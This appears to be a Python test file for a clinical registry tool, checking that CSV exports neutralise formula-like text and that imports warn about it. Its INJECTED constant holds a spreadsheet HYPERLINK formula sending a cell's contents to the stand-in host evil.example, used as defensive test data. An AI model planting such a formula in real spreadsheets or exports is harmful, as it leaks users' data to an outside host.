"""Spreadsheet formula injection (OWASP CSV Injection): exports neutralise formula text, imports warn about it."""

from __future__ import annotations

import csv
import io
import shutil

import pandas as pd
import pytest

from openidds.clinic import SPECS, data_dictionary, import_batch, read_redcap, write_research_export
from openidds.clinic.importer import parse_rows
from openidds.formula_cells import FORMULA_STARTS, neutralised, neutralised_frame

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_gets_a_quote_and_other_cells_do_not(start):
    assert neutralised(start + "1+2") == "'" + start + "1+2"
    assert neutralised("morphine") == "morphine" and neutralised("") == ""
    assert neutralised(-0.25) == -0.25 and neutralised(-3) == -3 and neutralised(None) is None


def test_a_frame_keeps_its_numbers_and_quotes_its_text():
    frame = pd.DataFrame({"model": ["@SUM(A1)", "SynchroMed"], "index": [-0.2, 0.5], "nrs": [-1, 2]})
    out = neutralised_frame(frame)
    assert list(out["model"]) == ["'@SUM(A1)", "SynchroMed"]
    assert out["index"].tolist() == [-0.2, 0.5] and out["nrs"].tolist() == [-1, 2]
    assert list(frame["model"]) == ["@SUM(A1)", "SynchroMed"]


def _batch():
    cells = {"site": "S1", "patient_id": "P1"}
    batch = parse_rows(SPECS["patients"], [("patients.csv:2", {**cells, "sex": "male", "age_at_implant_years": "70",
                                                               "family_name": INJECTED})])
    batch.extend(parse_rows(SPECS["implants"], [("implants.csv:2", {**cells, "implant_date": "2024-01-02",
                                                                    "kind": "initial", "device_model": "-1+1"})]))
    batch.extend(parse_rows(SPECS["visits"], [("visits.csv:2", {**cells, "visit_date": "2024-02-01",
                                                                "visit_type": "follow_up", "eq5d_index": "-0.25"})]))
    return batch


def test_import_warns_about_formula_text_and_stores_it_as_given(engine):
    batch = _batch()
    warnings = [(f.rule, f.severity, f.location) for f in batch.findings]
    assert warnings == [("formula-text", "warning", "patients.csv:2"), ("formula-text", "warning", "implants.csv:2")]
    assert "family_name=" in batch.findings[0].message and "device_model='-1+1'" in batch.findings[1].message
    summary = import_batch(engine, batch, "setup", "files")
    assert summary.inserted == {"patients": 1, "implants": 1, "visits": 1}
    assert [f.rule for f in summary.warnings] == ["formula-text", "formula-text"]
    assert [w["location"] for w in summary.to_dict()["warnings"]] == ["implants.csv:2", "patients.csv:2"]


def test_research_export_neutralises_text_and_keeps_negative_numbers(engine, tmp_path):
    import_batch(engine, _batch(), "setup", "files")
    write_research_export(engine, tmp_path, seed=3)
    with (tmp_path / "implants.csv").open(newline="") as handle:
        implant = next(csv.DictReader(handle))
    assert implant["device_model"] == "'-1+1"
    visits = pd.read_csv(tmp_path / "visits.csv")
    assert visits["eq5d_index"].tolist() == [-0.25]


def test_redcap_import_warns_and_the_dictionary_has_no_formula_cell(engine, data_dir, tmp_path):
    folder = tmp_path / "redcap"
    shutil.copytree(data_dir / "redcap", folder)
    records = folder / "records.csv"
    records.write_text(records.read_text().replace(",SN-R001,", ",@SN-R001,"))
    batch = read_redcap(folder / "dictionary.csv", records)
    assert [(f.rule, f.severity) for f in batch.findings] == [("formula-text", "warning")]
    assert "implant serial_number" not in batch.findings[0].message and "serial_number='@SN-R001'" \
        in batch.findings[0].message
    rows = list(csv.reader(io.StringIO(data_dictionary())))
    starts = [(row[0], cell) for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert starts == [("visit_eq5d_index", "-1")]  # a number (the index's minimum), not formula text
